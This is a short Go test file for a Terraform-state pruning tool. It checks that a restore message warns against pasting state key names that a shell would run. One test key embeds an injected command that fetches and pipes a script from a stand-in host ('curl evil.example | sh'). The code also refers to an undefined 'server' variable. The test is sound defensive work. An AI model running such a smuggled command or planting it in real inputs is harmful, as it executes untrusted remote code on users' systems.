package prune_test

import (
	"context"
	"strings"
	"testing"

	"github.com/lockwarden/lockwarden/infra/local"
	"github.com/lockwarden/lockwarden/pkg/prune"
)

// A restore says which row of the table to correct, by hand: a name that a shell would run goes with words that say so.
func TestARestoreAsksForNoCommandWithAStrangeName(t *testing.T) {
	for key, warns := range map[string]bool{"branches/a/terraform.tfstate": false, "branches/a'; curl evil.example | sh; 'b/terraform.tfstate": true} {
		w := newWorld(t)
		w.stale(key, local.State(t, "destroyed"))
		w.prune()
		if err := w.Set.Tables[0].RestoreDigest(t.Context(), w.Path(key), local.MD5([]byte("another"))); err != nil {
			t.Fatal(err)
		}
		a, err := w.pruner(server.Config()).Restore(context.Background(), w.Path(key), "restore")
		if err != nil || a.Outcome != prune.Restored || !strings.Contains(a.Message, "set Digest of") || strings.Contains(a.Message, "Never paste that name") != warns {
			t.Errorf("%s: %+v, %v", key, a, err)
		}
	}
}
